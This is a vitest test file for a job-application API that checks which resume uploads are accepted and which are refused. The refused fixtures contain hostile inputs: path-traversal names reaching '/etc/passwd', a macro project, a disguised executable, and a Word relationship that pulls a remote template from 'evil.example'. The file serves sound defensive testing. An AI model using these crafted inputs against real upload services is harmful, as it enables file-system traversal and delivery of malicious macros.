import { MAX_RESUME_BYTES, messages } from '@poyanil/domain';
import { expect, test } from 'vitest';
import { expectProblem, startApi } from '../support/api.ts';
import { bytesOf, compoundFile, docx, pdf, zip } from '../support/resumes.ts';
import { sampleOf, send } from '../support/samples.ts';
import { whileTesting } from '../support/while-testing.ts';
import { withStream } from './cases/compound-files.ts';
import { DOCUMENT, MAIN, typesByEnding } from './support/docx-parts.ts';

// One resume of each kind, and what is none for each reason; the slow tests and those beside the code have every other.

const api = whileTesting(() => startApi());

function apply(fileName: string, bytes: Uint8Array<ArrayBuffer>) {
  const sample = sampleOf('jobApplication', 'poyanil_hospital_punalur');
  return send(api.url, 'jobApplication', { ...sample, resume: { fileName, bytes } });
}

/** A scanned signature as a bitmap shrinks to a hundredth, and more. */
const signature = { name: 'word/media/signature.bmp', content: new Uint8Array(9_000_000) };

test.each([
  ['CV.PDF', pdf()],
  ['begins with a mark.pdf', bytesOf(`\uFEFF${Buffer.from(pdf()).toString('latin1')}`)],
  ['Anitha CV', pdf()],
  ['Anitha.S', docx()],
  ['അനിത.docx', docx()],
  ['renamed.doc', docx()],
  ['signature.docx', docx([signature])],
  ['../../etc/cv.doc', compoundFile()],
  ['rich text.doc', bytesOf('{\\rtf1 Anitha}')],
  ['from a library.docx', zip([typesByEnding(MAIN), DOCUMENT])],
])('%s is taken', async (fileName, bytes) => {
  expect((await apply(fileName, bytes)).status).toBe(202);
});

const { fileKind, emptyFile, macros } = messages;
const template =
  '<Relationships><Relationship Id="a" Type="attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';

test.each([
  ['an empty file', 'cv.pdf', new Uint8Array(), emptyFile],
  ['a web page called PDF', 'cv.pdf', bytesOf('<!doctype html><script>1</script>'), fileKind],
  ['a picture without an ending', 'cv', bytesOf('GIF89a'), fileKind],
  ['a PDF called EXE', 'cv.pdf.exe', pdf(), fileKind],
  ['a spreadsheet in the old container', 'cv.doc', compoundFile('Workbook'), fileKind],
  ['an encrypted document', 'cv.docx', docx([{ name: 'word/x.xml', flags: 1 }]), fileKind],
  ['a document with a way up', 'cv.docx', docx([{ name: 'word/../../etc/passwd' }]), fileKind],
  ['a document with macros', 'cv', docx([{ name: 'word/vbaProject.bin' }]), macros],
  ['an old document with macros', 'cv.doc', withStream(compoundFile(), '_VBA_PROJECT'), macros],
  [
    'a document with a template from elsewhere',
    'cv.docx',
    docx([{ name: 'word/_rels/settings.xml.rels', content: bytesOf(template) }]),
    macros,
  ],
])('%s is refused', async (_case, fileName, bytes, detail) => {
  const answer = await apply(fileName, bytes);
  await expectProblem(answer, 'invalid-field', { field: 'resume', detail });
});

test('a resume over 5 MiB is refused with the field at fault', async () => {
  for (const bytes of [MAX_RESUME_BYTES + 1, 2 * MAX_RESUME_BYTES]) {
    const answer = await apply('cv.pdf', pdf(bytes));
    await expectProblem(answer, 'content-too-large', {
      field: 'resume',
      detail: messages.fileSize,
    });
  }
});
